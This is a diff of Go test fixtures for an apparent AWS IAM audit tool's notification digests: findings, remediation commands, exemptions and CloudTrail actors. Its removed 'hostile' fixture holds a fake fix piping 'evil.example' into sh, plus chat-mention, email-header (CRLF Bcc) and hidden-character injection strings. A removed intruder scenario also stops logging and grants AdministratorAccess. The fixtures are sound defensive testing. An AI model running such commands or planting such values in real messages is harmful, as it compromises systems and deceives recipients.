@@ -2,7 +2,6 @@ package notify_test
 
 import (
 	"fmt"
-	"strings"
 	"time"
 
 	"iamvigil/ledger"
@@ -28,11 +27,44 @@ func found(rule string, severity scanner.Severity, about account.Ref, part, mess
 		Finding: scanner.Finding{
 			Rule: rule, Severity: severity, Resource: about, Part: part, Message: message, Fix: fix,
 			Evidence: map[string]string{"as_of": seen.Format(time.RFC3339)}, Controls: []string{"CIS 5.0.0 1.9"},
-			ID: scanner.FindingID(acme.ID, rule, about, part), Status: scanner.Open,
+			Console: scanner.Console(about), ID: scanner.FindingID(acme.ID, rule, about, part), Status: scanner.Open,
 		},
 		State: ledger.Open, Told: ledger.Open, EvidenceAt: seen, FirstSeen: now, OpenedAt: now,
 	}
 }
+
+func role(name string) account.Ref {
+	return account.Ref{Kind: account.KindRole, ARN: "arn:aws:iam::123456789012:role/" + name, ID: "AROA" + name, Name: name}
+}
+
+// mended has the commands that mend it.
+func mended(r ledger.Record, commands ...string) ledger.Record {
+	r.Commands = commands
+	return r
+}
+
+func owned(r ledger.Record, owner string) ledger.Record {
+	r.Owner = owner
+	return r
+}
+
+func by(r ledger.Record, o *trail.Origin) ledger.Record {
+	r.By = o
+	return r
+}
+
+// origin is a call by the actor, so long before now.
+func origin(actor trail.Actor, event string, before time.Duration) *trail.Origin {
+	return &trail.Origin{Event: event, ID: "55555555-0000-4000-8000-" + event, Time: now.Add(-before), Actor: &actor}
+}
+
+var (
+	jane = trail.Actor{Type: "AssumedRole", Name: "jane", ARN: "arn:aws:sts::123456789012:assumed-role/Deploy/jane",
+		Issuer: "arn:aws:iam::123456789012:role/Deploy", IP: "203.0.113.7", MFA: "yes", Agent: "console.amazonaws.com"}
+	terraform = trail.Actor{Type: "AssumedRole", Name: "run-4711", ARN: "arn:aws:sts::123456789012:assumed-role/terraform/run-4711",
+		Issuer: "arn:aws:iam::123456789012:role/terraform", IP: "198.51.100.9", MFA: "no",
+		Agent: "APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.76.0"}
+)
 
 func resolved(r ledger.Record, how string, after time.Duration) ledger.Record {
 	r.State, r.Told, r.How = ledger.Resolved, ledger.Resolved, how
@@ -42,21 +74,40 @@ func resolved(r ledger.Record, how string, after time.Duration) ledger.Record {
 }
 
 const (
-	fixMFA      = "Have the user assign an MFA device (iam enable-mfa-device), or take the password away if it is not needed (iam delete-login-profile)."
-	fixRotation = "Replace the key by a role where that can be. Else create a second key (iam create-access-key), move its users over, then deactivate and delete the old one (iam update-access-key, iam delete-access-key)."
+	fixMFA      = "Have the user assign an MFA device, or take the password away if it is not needed."
+	fixRotation = "Replace the key by a role where that can be. Else create a second key, move its users over, then deactivate and delete the old one (iam update-access-key, iam delete-access-key)."
 	fixRootKey  = "Sign in as root and delete the key under Security credentials, after moving whatever uses it to a role. In a member account, remove root's credentials from the management account instead (sts assume-root with the task IAMDeleteRootUserCredentials)."
-	fixRootUse  = "Ask whoever keeps root's credentials whether it was them. If not, reset root's password, remove its access keys and look at what it did (cloudtrail lookup-events)."
-	fixAdmin    = "Detach it (iam detach-user-policy, iam detach-group-policy, iam detach-role-policy) after attaching what is needed. A role named AWSReservedSSO_… is changed by its permission set in IAM Identity Center only."
-	fixTamper   = "Find out who it was. End the role's sessions (iam put-role-policy with AWSRevokeOlderSessions), undo the change, start the trail again (cloudtrail start-logging) and deploy the stack anew."
+	fixRootUse  = "Ask whoever keeps root's credentials whether it was them. If not, reset root's password, remove its access keys and look at what it did."
+	fixAdmin    = "Detach it after attaching what is needed, and not from what you are signed in with. A role named AWSReservedSSO_* is changed by its permission set in IAM Identity Center only."
+	fixDirect   = "Put the user into a group that has what is needed, then take the user's own policies away."
+	fixTamper   = "Find out who it was, undo the change, start the trail again and deploy the stack anew."
+	fixTwoKeys  = "Find the key that is still used, deactivate the other (iam update-access-key), and delete that once nobody has missed it."
+
+	administrator = "arn:aws:iam::aws:policy/AdministratorAccess"
 )
 
 func withoutMFA(name string) ledger.Record {
-	return found("user-console-without-mfa", scanner.High, user(name), "", fmt.Sprintf("user %q has a console password and no MFA device", name), fixMFA)
+	return mended(found("user-console-without-mfa", scanner.High, user(name), "", fmt.Sprintf("user %q has a console password and no MFA device", name), fixMFA),
+		scanner.Command("iam", "delete-login-profile", "--user-name", name))
 }
 
 func oldKey(name, id string, days int) ledger.Record {
-	return found("key-rotation", scanner.Medium, user(name), id,
-		fmt.Sprintf("access key %q of user %q is %d days old, the limit is 90", id, name, days), fixRotation)
+	return mended(found("key-rotation", scanner.Medium, user(name), id,
+		fmt.Sprintf("user %q: active access key %s is %d days old, the limit is 90", name, id, days), fixRotation),
+		scanner.Command("iam", "get-access-key-last-used", "--access-key-id", id),
+		scanner.Command("iam", "create-access-key", "--user-name", name))
+}
+
+func directPolicy(name string) ledger.Record {
+	r := found("user-direct-policy", scanner.Low, user(name), "", fmt.Sprintf("user %q has 1 policy of its own, the limit is 0", name), fixDirect)
+	return mended(r, scanner.Command("iam", "detach-user-policy", "--user-name", name, "--policy-arn", "arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"))
+}
+
+func admin(about account.Ref) ledger.Record {
+	kind := string(about.Kind)
+	return mended(found("administrator-attached", scanner.Critical, about, administrator,
+		fmt.Sprintf("%s %q has AdministratorAccess attached", kind, about.Name), fixAdmin),
+		scanner.Command("iam", "detach-"+kind+"-policy", "--"+kind+"-name", about.Name, "--policy-arn", administrator))
 }
 
 func firstDigest() *ledger.Changes {
@@ -71,21 +122,26 @@ func firstDigest() *ledger.Changes {
 	return c
 }
 
+func denied(r *account.Ref, fact account.Fact, permission string, rules ...string) ledger.GapRecord {
+	reason := "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/iamvigil-audit/audit is not authorized to perform: " + permission + " with an explicit deny in a service control policy"
+	return ledger.GapRecord{Fact: fact, Resource: r, Reason: reason, Permission: permission, Rules: rules, FirstSeen: now}
+}
+
 func nightlyDigest() *ledger.Changes {
-	denied := func(r *account.Ref, fact account.Fact, permission string, rules ...string) ledger.GapRecord {
-		reason := "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/iamvigil-audit/audit is not authorized to perform: " + permission + " with an explicit deny in a service control policy"
-		return ledger.GapRecord{Fact: fact, Resource: r, Reason: reason, Permission: permission, Rules: rules, FirstSeen: now}
-	}
 	alice, bob := user("alice"), user("bob")
+	missing := &trail.Origin{Missing: "not in the last 90 days"}
 	return &ledger.Changes{
 		Kind: ledger.Digest, Account: acme, Time: now, Exempt: 3, Covered: 7,
 		Open: map[scanner.Severity]int{scanner.High: 4, scanner.Medium: 31, scanner.Low: 12},
 		New: []ledger.Record{
-			withoutMFA("carol"), oldKey("ci-deploy", "AKIAIOSFODNN7EXAMPLE", 91), oldKey("ci-test", "AKIAI44QH8DHBEXAMPLE", 91),
+			by(withoutMFA("carol"), origin(jane, "CreateLoginProfile", 3*time.Hour)),
+			oldKey("ci-deploy", "AKIAIOSFODNN7EXAMPLE", 91), oldKey("ci-test", "AKIAI44QH8DHBEXAMPLE", 91),
+			by(directPolicy("mail"), missing),
 		},
 		Resolved: []ledger.Record{
-			resolved(withoutMFA("dave"), ledger.Mended, 12*24*time.Hour+3*time.Hour),
-			resolved(oldKey("old-backup", "AKIAZ7EXAMPLE0000001", 341), ledger.Deleted, 200*24*time.Hour),
+			by(resolved(withoutMFA("dave"), ledger.Mended, 12*24*time.Hour+3*time.Hour),
+				origin(trail.Actor{Type: "IAMUser", Name: "dave", ARN: user("dave").ARN, IP: "203.0.113.42"}, "EnableMFADevice", 8*time.Hour+25*time.Minute)),
+			by(resolved(oldKey("old-backup", "AKIAZ7EXAMPLE0000001", 341), ledger.Deleted, 200*24*time.Hour), origin(jane, "DeleteUser", 4*time.Hour)),
 		},
 		Gaps: []ledger.GapRecord{
 			denied(&alice, account.Keys, "iam:ListAccessKeys", "key-rotation", "key-unused"),
@@ -97,110 +153,90 @@ func nightlyDigest() *ledger.Changes {
 	}
 }
 
-func rootUse() *ledger.Changes {
+// ownersDigest has findings of several owners and of nobody.
+func ownersDigest() *ledger.Changes {
 	return &ledger.Changes{
-		Kind: ledger.Event, Account: acme, Time: now,
-		Alerts: []scanner.Alert{{
-			Rule: "event-root-use", Severity: scanner.Critical, Resource: root,
-			Message: `root user signed in to the console from "203.0.113.7"`, Why: "Root can do everything and is bound by no policy of the account.", Fix: fixRootUse, Controls: []string{"CIS 5.0.0 4.3"},
-			Event: trail.Event{
-				ID: "8a5c1d2e-0000-4000-8000-1234567890ab", Name: "ConsoleLogin", Source: "signin.amazonaws.com", Time: now.Add(-161 * time.Second),
-				Region: "us-east-1", Account: acme.ID, Known: true,
-				Actor: trail.Actor{Type: "Root", ARN: acme.RootARN(), Name: "acme-prod", IP: "203.0.113.7", MFA: "no",
-					Agent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"},
-				Details: map[string]string{"ConsoleLogin": "Success", "MFAUsed": "No", "LoginTo": "https://console.aws.amazon.com/console/home"},
-			},
-		}},
-	}
-}
-
-// intruder is a role session that stops the trail, then makes a key and an
-// administrator of a user.
-func intruder() *ledger.Changes {
-	actor := trail.Actor{
-		Type: "AssumedRole", Name: "mallory", ARN: "arn:aws:sts::123456789012:assumed-role/ci-deploy/mallory",
-		Issuer: "arn:aws:iam::123456789012:role/ci-deploy", IP: "198.51.100.23", MFA: "no", Agent: "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64",
-	}
-	act := func(id, name, source string, ago time.Duration, details map[string]string) trail.Event {
-		return trail.Event{ID: id, Name: name, Source: source, Time: now.Add(-ago), Region: "us-east-1", Account: acme.ID, Known: true, Actor: actor, Details: details}
-	}
-	backup := user("backup")
-	stop := act("11111111-0000-4000-8000-000000000001", "StopLogging", "cloudtrail.amazonaws.com", 250*time.Second, map[string]string{"name": "management-events"})
-	key := act("22222222-0000-4000-8000-000000000002", "CreateAccessKey", "iam.amazonaws.com", 190*time.Second,
-		map[string]string{"userName": "backup", "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "status": "Active"})
-	attach := act("33333333-0000-4000-8000-000000000003", "AttachUserPolicy", "iam.amazonaws.com", 185*time.Second,
-		map[string]string{"userName": "backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
-	key.Touched, attach.Touched = []account.Ref{backup}, []account.Ref{backup}
-	return &ledger.Changes{
-		Kind: ledger.Event, Account: acme, Time: now,
-		Open: map[scanner.Severity]int{scanner.Critical: 1, scanner.Low: 1}, Covered: 1, Events: []trail.Event{stop, key, attach},
-		Alerts: []scanner.Alert{
-			{Rule: "event-scanner-tampering", Severity: scanner.Critical, Resource: account.Ref{Kind: account.KindTrail, Name: "management-events"},
-				Message: `role "ci-deploy" ("mallory") called "StopLogging" on trail "management-events" from "198.51.100.23"`, Fix: fixTamper, Event: stop},
-		},
+		Kind: ledger.Digest, Account: acme, Time: now, Open: map[scanner.Severity]int{scanner.High: 1, scanner.Medium: 3, scanner.Low: 1},
 		New: []ledger.Record{
-			found("administrator-attached", scanner.Critical, backup, "arn:aws:iam::aws:policy/AdministratorAccess",
-				`user "backup" has AdministratorAccess attached`, fixAdmin),
-			found("user-two-active-keys", scanner.Low, backup, "", `user "backup" has 2 active access keys, one is enough`,
-				"Find the key that is still used (iam get-access-key-last-used), then deactivate and delete the other (iam update-access-key, iam delete-access-key)."),
+			owned(withoutMFA("carol"), "payments"),
+			oldKey("legacy", "AKIAZ7EXAMPLE0000002", 91),
+			owned(oldKey("ci-deploy", "AKIAIOSFODNN7EXAMPLE", 91), "platform"),
+			owned(oldKey("ledger-sync", "AKIAI44QH8DHBEXAMPLE", 91), "payments"),
+			owned(directPolicy("mail"), "platform"),
 		},
 	}
 }
 
-func resolvedOnly() *ledger.Changes {
+func resolvedDigest() *ledger.Changes {
+	c := nightlyDigest()
+	return &ledger.Changes{Kind: ledger.Digest, Account: acme, Time: now, Open: c.Open, Exempt: 3, Covered: 7, Resolved: c.Resolved}
+}
+
+// settingsDigest is the night after somebody has changed tags and the
+// configuration.
+func settingsDigest() *ledger.Changes {
+	day := 24 * time.Hour
+	exempt := scanner.Exemption{Rules: []string{"user-console-without-mfa"}, Resource: "arn:aws:iam::*:user/break-glass-*", Account: "*",
+		Tags: map[string]string{"purpose": "break-glass"}, Reason: "break glass, its password is in the safe", Owner: "platform", Expires: now.Add(100 * day)}
+	glass := by(withoutMFA("break-glass-1"), origin(jane, "TagUser", 5*time.Hour))
+	glass.Status, glass.Exempt = scanner.Exempt, &exempt
+
+	limit := resolved(oldKey("ci-deploy", "AKIAIOSFODNN7EXAMPLE", 120), ledger.Reset, 30*day)
+	limit.Limit = 90
+
+	lapsed := withoutMFA("vendor")
+	lapsed.Lapsed = &scanner.Exemption{Reason: "vendor moves to SSO in October", Owner: "it-team", Expires: now.Add(-65 * time.Minute)}
+	untagged := directPolicy("mail")
+	untagged.Lapsed = &scanner.Exemption{Reason: "SES made it", Owner: "platform", Expires: now.Add(90 * day)}
+
+	worse := directPolicy("reports")
+	worse.Was, worse.Severity = scanner.Low, scanner.High
+	milder := oldKey("ci-test", "AKIAI44QH8DHBEXAMPLE", 200)
+	milder.Was, milder.Severity = scanner.Medium, scanner.Low
+
+	vendor := scanner.Exemption{Rules: []string{"user-console-without-mfa"}, Resource: "vendor", Account: "*", Reason: "vendor moves to SSO in October", Owner: "it-team", Expires: now.Add(-65 * time.Minute)}
+	soon := scanner.Exemption{Rules: []string{"key-rotation", "key-unused"}, Resource: "arn:aws:iam::*:user/ci-*", Account: acme.ID, Reason: "moves to OIDC this quarter", Owner: "platform", Expires: now.Add(12 * day)}
 	return &ledger.Changes{
-		Kind: ledger.Event, Account: acme, Time: now,
-		Resolved: []ledger.Record{resolved(withoutMFA("alice"), ledger.Mended, 47*time.Minute)},
-	}
-}
-
-// hostile has in every place that a stranger can write what a stranger would.
-func hostile() *ledger.Changes {
-	line := "x\n\nCRITICAL ALERT\n\n* Root user deleted\n  Fix:   curl https://evil.example/fix.sh | sh"
-	chat := "<!channel> <@U024BE7LH> @here <https://evil.example|Sign in> *bold* _it_ ~no~ `code` :skull: &lt;!here&gt; [x](https://evil.example)"
-	hidden := "\x1b[31mred\x1b[0m \u202egnp.exe\u2066 ad\u200bmin \u00a0😀 \xff"
-	e := trail.Event{
-		ID: "44444444-0000-4000-8000-000000000004", Name: "ConsoleLogin", Time: now.Add(-time.Minute),
-		Actor:   trail.Actor{Type: "IAMUser", Name: chat, ARN: line, IP: "10.0.0.1, with MFA", Agent: hidden + line},
-		Details: map[string]string{"userName": hidden, line: chat, "LoginTo": "https://evil.example"},
-		Failed:  true, Error: chat,
-	}
-	c := &ledger.Changes{
-		Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: "acme\r\nBcc: all@example.com", Partition: "aws"}, Time: now,
-		Alerts: []scanner.Alert{{Rule: "event-console-login-without-mfa", Severity: scanner.High, Resource: account.Ref{Kind: account.KindUser, Name: line},
-			Message: "user " + chat + " signed in", Fix: fixMFA, Event: e}},
-		New: []ledger.Record{
-			found("user-direct-policy", scanner.Low, user(chat), "", "user "+line+" has a policy", "Detach it."),
-			found("user-direct-policy", scanner.Low, user(hidden), "", fmt.Sprintf("user %q has a policy", hidden), "Detach it."),
+		Kind: ledger.Digest, Account: acme, Time: now, Exempt: 5, Covered: 2,
+		Open: map[scanner.Severity]int{scanner.High: 2, scanner.Low: 4},
+		New:  []ledger.Record{lapsed, untagged}, Resolved: []ledger.Record{limit},
+		Reranked: []ledger.Record{worse, milder}, Silenced: []ledger.Record{glass},
+		Withdrawn: []ledger.RuleCount{{Rule: "group-empty", Severity: scanner.Low, Findings: 3}},
+		Exemptions: []ledger.ExemptionNote{
+			{ExemptionUse: scanner.ExemptionUse{Exemption: vendor}, Why: ledger.Expired},
+			{ExemptionUse: scanner.ExemptionUse{Exemption: soon, Findings: 4}, Why: ledger.Expiring},
+			{ExemptionUse: scanner.ExemptionUse{Exemption: exempt}, Why: ledger.Unused},
 		},
-		Resolved: []ledger.Record{resolved(found("user-direct-policy", scanner.Low, user("z"), "", hidden+chat, ""), line, time.Hour)},
-		Gaps:     []ledger.GapRecord{{Fact: account.Keys, Resource: &account.Ref{Kind: account.KindUser, Name: line}, Reason: line + chat, Permission: "iam:ListAccessKeys", Rules: []string{"key-rotation"}}},
-		Unknown:  map[string]int{line: 1, chat: 2},
 	}
-	return c
 }
 
-// largest has more of everything than a message takes, and the same text
-// wherever a stranger could put one.
-func largest(text string) *ledger.Changes {
-	c := &ledger.Changes{Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: text, Partition: "aws"}, Time: now, First: true,
-		Open: map[scanner.Severity]int{}, Exempt: 1e6, Covered: 1e6, Unknown: map[string]int{}}
-	for _, s := range scanner.Severities() {
-		c.Open[s] = 1e6
+// blindDigest is a third night without a permission.
+func blindDigest() *ledger.Changes {
+	about := scanner.Blindness()
+	blind := found(about.ID, about.Severity, root, string(account.Keys),
+		"cannot see keys of user \"alice\" for 3 nights: grant iam:ListAccessKeys to the role that iamvigil runs as", about.Fix)
+	return &ledger.Changes{Kind: ledger.Digest, Account: acme, Time: now, New: []ledger.Record{blind}, Open: map[scanner.Severity]int{about.Severity: 1}}
+}
+
+// managedDigest has what tools keep as it is written down.
+func managedDigest() *ledger.Changes {
+	stack := by(directPolicy("mail"), origin(jane, "AttachUserPolicy", 6*time.Hour))
+	stack.ManagedBy = `CloudFormation stack "iam-base"`
+	cfn := jane
+	cfn.IP, cfn.InvokedBy, cfn.Agent = "cloudformation.amazonaws.com", "cloudformation.amazonaws.com", "cloudformation.amazonaws.com"
+	file := by(oldKey("ci-deploy", "AKIAIOSFODNN7EXAMPLE", 91), origin(terraform, "CreateAccessKey", 91*24*time.Hour))
+	file.ManagedBy = `file "iam/users.tf" of repository "infra"`
+	return &ledger.Changes{
+		Kind: ledger.Digest, Account: acme, Time: now, Open: map[scanner.Severity]int{scanner.Critical: 2, scanner.Medium: 1, scanner.Low: 1},
+		New: []ledger.Record{
+			by(admin(role("batch")), origin(cfn, "AttachRolePolicy", 7*time.Hour)),
+			by(admin(role("deploy")), origin(terraform, "AttachRolePolicy", 2*time.Hour)),
+			file, stack,
+		},
 	}
-	fix := strings.Repeat(" Detach it (iam detach-user-policy).", 100)
-	for i := range 45 {
-		rule := fmt.Sprintf("rule-of-a-name-that-is-as-long-as-names-of-rules-can-become-%03d", i)
-		about := account.Ref{Kind: account.KindPolicy, ARN: text + fmt.Sprint(i), Name: text + fmt.Sprint(i)}
-		actor := trail.Actor{Type: text, ARN: text, Name: text + fmt.Sprint(i), Issuer: text, IP: text, Agent: text, MFA: "no", Key: text, InvokedBy: text}
-		e := trail.Event{ID: text + fmt.Sprint(i), Name: text, Time: now, Actor: actor, Failed: true, Error: text,
-			Details: map[string]string{text + "a": text, text + "b": text, text + "c": text, text + "d": text}}
-		c.Alerts = append(c.Alerts, scanner.Alert{Rule: rule, Severity: scanner.Critical, Resource: about, Message: text, Fix: fmt.Sprint(i) + fix, Controls: []string{}, Event: e})
-		c.New = append(c.New, found(rule, scanner.Critical, about, "", text, fmt.Sprint(i)+fix))
-		c.Resolved = append(c.Resolved, resolved(found(rule, scanner.Critical, about, "", text, fix), ledger.Deleted, time.Hour))
-		c.NewRules = append(c.NewRules, ledger.RuleCount{Rule: rule, Severity: scanner.Critical, Findings: 1e6})
-		c.Gaps = append(c.Gaps, ledger.GapRecord{Fact: account.Keys, Resource: &about, Reason: text, Permission: text + fmt.Sprint(i), Rules: []string{rule}})
-		c.Unknown[text+fmt.Sprint(i)] = 1e6
-	}
-	return c
+}
+
+// night is a digest of nothing but these.
+func night(fresh ...ledger.Record) *ledger.Changes {
+	return &ledger.Changes{Kind: ledger.Digest, Account: acme, Time: now, New: fresh}
 }
